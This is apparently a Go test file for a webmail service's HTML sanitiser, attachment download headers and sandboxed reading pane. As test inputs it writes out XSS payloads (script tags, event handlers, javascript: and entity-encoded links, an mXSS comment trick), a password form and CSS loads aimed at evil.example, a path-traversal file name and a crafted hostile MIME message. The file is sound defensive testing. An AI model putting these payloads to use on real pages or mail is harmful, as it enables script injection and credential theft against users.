package web

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"airlock/message"
	"airlock/store"
	"airlock/store/storetest"
)

// TestMailSanitiserRefusesHostileHTML feeds the reading pane's sanitiser
// the markup hostile mail carries and checks that nothing able to run,
// submit, escape the message or load from elsewhere comes out.
func TestMailSanitiserRefusesHostileHTML(t *testing.T) {
	for _, tc := range []struct {
		name, in string
		banned   []string // none of these may appear (lower-cased output)
		want     []string // all of these must
	}{
		{"script", `<p>hi</p><script>alert(1)</script>`, []string{"<script", "alert"}, []string{"<p>hi</p>"}},
		{"onerror", `<img src="x" onerror="alert(1)">`, []string{"onerror", "alert"}, nil},
		{"event handlers", `<div onclick="a()" onmouseover="b()">x</div><body onload="c()">`, []string{"onclick", "onmouseover", "onload"}, []string{">x</div>"}},
		{"javascript link", `<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(2)">y</a>`, []string{"javascript", "alert"}, nil},
		{"entity-encoded javascript", `<a href="&#106;avascript:alert(1)">x</a>`, []string{"javascript", "alert"}, nil},
		{"vbscript and data links", `<a href="vbscript:msgbox">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>`, []string{"vbscript", "data:text", "<script"}, nil},
		{"position fixed", `<div style="position:fixed;top:0;left:0;width:100%;height:100%">over</div>`, []string{"position", "fixed"}, []string{"over"}},
		{"expression", `<div style="width: expression(alert(1))">x</div>`, []string{"expression", "alert"}, nil},
		{"css url", `<div style="background-image:url(https://evil.example/t.png)">x</div><p style="background: url('https://evil.example/b')">y</p>`, []string{"url(", "evil.example"}, nil},
		{"style element", `<style>body{background:url(https://evil.example/s)} .x{position:fixed}</style><p>z</p>`, []string{"<style", "evil.example", "position"}, []string{"<p>z</p>"}},
		{"form", `<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>`, []string{"<form", "<input", "<button", "evil.example"}, nil},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">hello`, []string{"<meta", "refresh", "evil.example"}, []string{"hello"}},
		{"svg with script", `<svg onload="alert(1)"><script>alert(2)</script><image href="https://evil.example/i"/></svg>`, []string{"<svg", "<script", "alert", "evil.example"}, nil},
		{"base href", `<base href="https://evil.example/"><a href="page">x</a>`, []string{"<base", "evil.example", `href="page"`}, nil},
		{"iframe", `<iframe src="https://evil.example/f"></iframe><frame src="x"><object data="x"></object><embed src="x">`, []string{"<iframe", "<frame", "<object", "<embed", "evil.example"}, nil},
		{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/c.css">`, []string{"<link", "evil.example"}, nil},
		{"remote image blocked", `<img src="https://tracker.example/pixel.gif" alt="logo">`, []string{"tracker.example", "src="}, []string{`alt="logo"`}},
		{"srcset and background", `<img srcset="https://evil.example/a 1x"><table background="https://evil.example/b"><tr><td>t</td></tr></table>`, []string{"evil.example", "srcset", "background="}, []string{">t</td>"}},
		{"relative link", `<a href="/logout">x</a>`, []string{"/logout"}, nil},
		{"links open apart", `<a href="https://nhs.uk/">nhs</a>`, nil, []string{`href="https://nhs.uk/"`, `target="_blank"`, `rel="noopener noreferrer"`}},
		{"svg data image", `<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`, []string{"data:image/svg"}, nil},
		{"safe style kept", `<p style="color: #b3261e; font-weight: bold">red</p>`, []string{"position"}, []string{"color: #b3261e", "font-weight: bold"}},
		{"noscript and template", `<noscript><img src=x onerror=alert(1)></noscript><template><script>alert(2)</script></template>ok`, []string{"alert", "onerror", "<template", "<noscript"}, []string{"ok"}},
		{"mxss via comment", `<!--<img src="--><img src=x onerror=alert(1)//">`, []string{"onerror", "alert"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := strings.ToLower(sanitizeMail(tc.in, false, nil).HTML)
			for _, b := range tc.banned {
				if strings.Contains(out, strings.ToLower(b)) {
					t.Errorf("output keeps %q:\n%s", b, out)
				}
			}
			for _, w := range tc.want {
				if !strings.Contains(out, strings.ToLower(w)) {
					t.Errorf("output lost %q:\n%s", w, out)
				}
			}
		})
	}
}

// TestMailSanitiserImages: remote images are counted and dropped until
// asked for, then kept; cid: pictures become data: URLs from the message.
func TestMailSanitiserImages(t *testing.T) {
	in := `<img src="https://a.example/1.png"><img src="http://b.example/2.png"><img src="cid:logo@x"><img src="cid:missing@x">`
	blocked := sanitizeMail(in, false, func(id string) (string, bool) {
		if id == "logo@x" {
			return "data:image/png;base64,AAAA", true
		}
		return "", false
	})
	if blocked.Remote != 2 || strings.Contains(blocked.HTML, "example") {
		t.Fatalf("blocked: %d remote, %s", blocked.Remote, blocked.HTML)
	}
	if !strings.Contains(blocked.HTML, `src="data:image/png;base64,AAAA"`) || strings.Contains(blocked.HTML, "cid:") {
		t.Fatalf("cid not inlined: %s", blocked.HTML)
	}
	shown := sanitizeMail(in, true, nil)
	if shown.Remote != 2 || !strings.Contains(shown.HTML, "https://a.example/1.png") || !strings.Contains(shown.HTML, "http://b.example/2.png") {
		t.Fatalf("shown: %s", shown.HTML)
	}
	if csp := frameCSP(false); strings.Contains(csp, "http") || !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "sandbox") {
		t.Fatalf("frame CSP without images: %s", csp)
	}
	if csp := frameCSP(true); !strings.Contains(csp, "img-src data: cid: https: http:") || strings.Contains(csp, "script") {
		t.Fatalf("frame CSP with images: %s", csp)
	}
}

func TestLinkifyPlainText(t *testing.T) {
	segs := linkify("See https://nhs.uk/a?b=1. Or <script>x</script> javascript:alert(1)")
	var links []string
	for _, s := range segs {
		if s.URL != "" {
			links = append(links, s.URL)
		}
	}
	if len(links) != 1 || links[0] != "https://nhs.uk/a?b=1" {
		t.Fatalf("links %q", links)
	}
}

// hostileMail is an HTML message with a script, an onerror handler, a
// remote image, an inline cid: picture, a PDF, an HTML file and an SVG
// attached.
func hostileMail(from, to, remote string) []byte {
	png := base64.StdEncoding.EncodeToString(tinyPNG)
	return []byte("From: " + from + "\r\nTo: " + to + "\r\nSubject: Quarterly figures\r\nDate: Mon, 3 Mar 2025 09:30:00 +0000\r\n" +
		"Message-ID: <hostile@example.nhs.uk>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"MIX\"\r\n\r\n" +
		"--MIX\r\nContent-Type: multipart/related; boundary=\"REL\"\r\n\r\n" +
		"--REL\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		"<html><body><p id=\"greeting\">Hello from the figures team.</p><script>document.title='pwned';fetch('" + remote + "/script')</script>" +
		"<img src=\"x\" onerror=\"document.title='pwned';fetch('" + remote + "/onerror')\">" +
		"<img id=\"remote\" src=\"" + remote + "/pixel.png\" alt=\"tracker\"><img id=\"logo\" src=\"cid:logo@figures\" alt=\"Logo\">" +
		"<p><a href=\"https://www.nhs.uk/\">NHS website</a></p></body></html>\r\n" +
		"--REL\r\nContent-Type: image/png\r\nContent-ID: <logo@figures>\r\nContent-Disposition: inline; filename=\"logo.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + png + "\r\n" +
		"--REL--\r\n" +
		"--MIX\r\nContent-Type: application/pdf; name=\"figures.pdf\"\r\nContent-Disposition: attachment; filename=\"figures.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		base64.StdEncoding.EncodeToString([]byte("%PDF-1.4\n%%EOF\n")) + "\r\n" +
		"--MIX\r\nContent-Type: text/html; name=\"page.html\"\r\nContent-Disposition: attachment; filename=\"../../page.html\"\r\n\r\n<script>alert(1)</script>\r\n" +
		"--MIX\r\nContent-Type: image/svg+xml; name=\"pic.svg\"\r\nContent-Disposition: attachment; filename=\"pic.svg\"\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\r\n" +
		"--MIX--\r\n")
}

// tinyPNG is a 1x1 picture.
var tinyPNG, _ = base64.StdEncoding.DecodeString("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")

// deliver stores raw as a new message in the folder, as delivery would.
func deliver(t testing.TB, st *store.Store, u *store.User, folderID int64, raw []byte) *store.Item {
	t.Helper()
	it, err := message.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	it.UserID, it.FolderID = u.ID, folderID
	if err := st.AddItem(context.Background(), it, raw); err != nil {
		t.Fatal(err)
	}
	return it
}

func folderOf(t testing.TB, st *store.Store, u *store.User, typ store.FolderType) *store.Folder {
	t.Helper()
	f, err := st.FolderByType(context.Background(), u.ID, typ)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// TestMailAttachmentHeaders: downloads are attachments of a type that
// cannot render (HTML and SVG become octet-stream), never sniffed, with a
// path-free file name; pictures and PDFs open inline only when asked, and
// a sandboxing policy comes with every one.
func TestMailAttachmentHeaders(t *testing.T) {
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st)
		u := e.addUser("reader@example.nhs.uk", "reader-pass-1", store.RoleUser)
		inbox := folderOf(t, st, u, store.FolderInbox)
		it := deliver(t, st, u, inbox.ID, hostileMail("Figures <figures@example.nhs.uk>", u.Email, "http://127.0.0.1:9"))
		b := e.browser()
		b.login(u.Email, "reader-pass-1")
		page := b.get(itemURL(inbox.ID, it.ID))
		if page.Code != 200 {
			t.Fatalf("reading pane: HTTP %d", page.Code)
		}
		byName := map[string]string{}
		for _, a := range it.Attachments {
			byName[safeFileName(a.FileName)] = itemURL(inbox.ID, it.ID) + "/att/" + fmt.Sprint(a.ID)
		}
		for _, tc := range []struct {
			file, query, typ, disp string
			sandbox                bool
		}{
			{"figures.pdf", "", "application/pdf", `attachment; filename=figures.pdf`, true},
			{"figures.pdf", "?view=1", "application/pdf", `inline; filename=figures.pdf`, false},
			{"page.html", "", "application/octet-stream", `attachment; filename=page.html`, true},
			{"page.html", "?view=1", "application/octet-stream", `attachment; filename=page.html`, true},
			{"pic.svg", "?view=1", "application/octet-stream", `attachment; filename=pic.svg`, true},
			{"logo.png", "?view=1", "image/png", `inline; filename=logo.png`, true},
		} {
			path, ok := byName[tc.file]
			if !ok {
				t.Fatalf("no attachment %s among %v", tc.file, byName)
			}
			r := b.get(path + tc.query)
			h := r.Header
			if r.Code != 200 || h.Get("Content-Type") != tc.typ || h.Get("Content-Disposition") != tc.disp || h.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s%s: HTTP %d, type %q, disposition %q, nosniff %q", tc.file, tc.query, r.Code, h.Get("Content-Type"), h.Get("Content-Disposition"), h.Get("X-Content-Type-Options"))
			}
			csp := h.Get("Content-Security-Policy")
			if !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "sandbox") != tc.sandbox {
				t.Errorf("%s%s: CSP %q", tc.file, tc.query, csp)
			}
		}
		// Another user gets nothing, not even a hint it exists.
		e.addUser("other@example.nhs.uk", "other-pass-1", store.RoleUser)
		o := e.browser()
		o.login("other@example.nhs.uk", "other-pass-1")
		if r := o.get(byName["figures.pdf"]); r.Code != http.StatusNotFound {
			t.Fatalf("another user's attachment: HTTP %d", r.Code)
		}
	})
}

var frameSrcRE = regexp.MustCompile(`<iframe class="body-frame" src="([^"]+)" sandbox="allow-popups allow-popups-to-escape-sandbox"`)

// TestMailReadingPane: the list, the pane and its frame, marking read
// through the store (the folder's counter moves), the images choice.
func TestMailReadingPane(t *testing.T) {
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		ctx := context.Background()
		e := newEnv(t, st)
		u := e.addUser("reader@example.nhs.uk", "reader-pass-1", store.RoleUser)
		inbox := folderOf(t, st, u, store.FolderInbox)
		it := deliver(t, st, u, inbox.ID, hostileMail(`"Figures Team" <figures@example.nhs.uk>`, u.Email, "http://127.0.0.1:9"))
		plain := deliver(t, st, u, inbox.ID, []byte("From: bob@example.nhs.uk\r\nTo: "+u.Email+"\r\nSubject: Rota <b>bold</b>\r\n\r\nSee https://rota.example.nhs.uk/week?id=4. Thanks <script>x</script>\r\n"))
		b := e.browser()
		if r := b.login(u.Email, "reader-pass-1"); r.Location != "/mail" {
			t.Fatalf("staff land on %q, want /mail", r.Location)
		}
		r := b.get("/mail")
		if r.Code != http.StatusSeeOther || r.Location != fmt.Sprintf("/mail/%d", inbox.ID) {
			t.Fatalf("/mail: %d %s", r.Code, r.Location)
		}
		list := b.get(r.Location)
		if list.Code != 200 || !strings.Contains(list.Body, "Quarterly figures") || !strings.Contains(list.Body, "Figures Team") ||
			!strings.Contains(list.Body, "2 unread.") || !strings.Contains(list.Body, "Rota &lt;b&gt;bold&lt;/b&gt;") {
			t.Fatalf("list: HTTP %d\n%s", list.Code, mainOf(list.Body))
		}
		before, _ := st.FolderModseq(ctx, u.ID, inbox.ID)
		pane := b.get(itemURL(inbox.ID, it.ID))
		m := frameSrcRE.FindStringSubmatch(pane.Body)
		if pane.Code != 200 || m == nil || !strings.Contains(pane.Body, "1 picture from the internet was blocked") {
			t.Fatalf("pane: HTTP %d\n%s", pane.Code, mainOf(pane.Body))
		}
		if strings.Contains(pane.Body, "pwned") {
			t.Fatal("the pane page carries the message's script")
		}
		after, _ := st.FolderModseq(ctx, u.ID, inbox.ID)
		if got, _ := st.ItemByID(ctx, u.ID, it.ID); !got.Read || after <= before {
			t.Fatalf("opening did not mark read through the store (read %v, counter %d -> %d)", got.Read, before, after)
		}
		frame := b.get(m[1])
		csp := frame.Header.Get("Content-Security-Policy")
		if frame.Code != 200 || !strings.HasPrefix(csp, "default-src 'none'; img-src data: cid:;") || frame.Header.Get("X-Frame-Options") != "SAMEORIGIN" {
			t.Fatalf("frame: HTTP %d CSP %q XFO %q", frame.Code, csp, frame.Header.Get("X-Frame-Options"))
		}
		low := strings.ToLower(frame.Body)
		for _, bad := range []string{"<script", "onerror", "127.0.0.1:9", "pwned"} {
			if strings.Contains(low, bad) {
				t.Fatalf("frame keeps %q:\n%s", bad, frame.Body)
			}
		}
		if !strings.Contains(frame.Body, `id="logo" src="data:image/png;base64,`) || !strings.Contains(frame.Body, "Hello from the figures team.") {
			t.Fatalf("frame lost the body or the inline picture:\n%s", frame.Body)
		}
		// Show images once: the frame URL asks for them, and the policy
		// lets them load.
		once := b.get(itemURL(inbox.ID, it.ID) + "?images=1")
		m = frameSrcRE.FindStringSubmatch(once.Body)
		if m == nil || !strings.HasSuffix(m[1], "?images=1") {
			t.Fatalf("show images: frame %v", m)
		}
		if f := b.get(m[1]); !strings.Contains(f.Body, "127.0.0.1:9/pixel.png") || !strings.Contains(f.Header.Get("Content-Security-Policy"), "https: http:") {
			t.Fatalf("frame with images: CSP %q", f.Header.Get("Content-Security-Policy"))
		}
		// ...and the next visit blocks them again, until "always".
		if again := b.get(itemURL(inbox.ID, it.ID)); !strings.Contains(again.Body, "was blocked") {
			t.Fatal("images shown without asking on the next visit")
		}
		r = b.postForm(itemURL(inbox.ID, it.ID), itemURL(inbox.ID, it.ID)+"/images", url.Values{"always": {"1"}})
		if r.Code != http.StatusSeeOther {
			t.Fatalf("always: HTTP %d", r.Code)
		}
		if always := b.get(itemURL(inbox.ID, it.ID)); strings.Contains(always.Body, "was blocked") || !strings.Contains(always.Body, "figures@example.nhs.uk are always shown") {
			t.Fatal("always for this sender did not hold")
		}
		// Plain text: escaped, link clickable, no script.
		p := b.get(itemURL(inbox.ID, plain.ID))
		if !strings.Contains(p.Body, `<a href="https://rota.example.nhs.uk/week?id=4" target="_blank" rel="noopener noreferrer">`) || strings.Contains(p.Body, "<script>x") {
			t.Fatalf("plain text pane:\n%s", mainOf(p.Body))
		}
		// Another user: not found, for the pane and the frame.
		e.addUser("other@example.nhs.uk", "other-pass-1", store.RoleUser)
		o := e.browser()
		o.login("other@example.nhs.uk", "other-pass-1")
		for _, path := range []string{itemURL(inbox.ID, it.ID), itemURL(inbox.ID, it.ID) + "/frame", fmt.Sprintf("/mail/%d", inbox.ID)} {
			if r := o.get(path); r.Code != http.StatusNotFound {
				t.Fatalf("another user's %s: HTTP %d", path, r.Code)
			}
		}
		// Signed out: sent to sign in.
		if r := e.browser().get(fmt.Sprintf("/mail/%d", inbox.ID)); r.Code != http.StatusSeeOther || !strings.HasPrefix(r.Location, "/login") {
			t.Fatalf("signed out: %d %s", r.Code, r.Location)
		}
	})
}
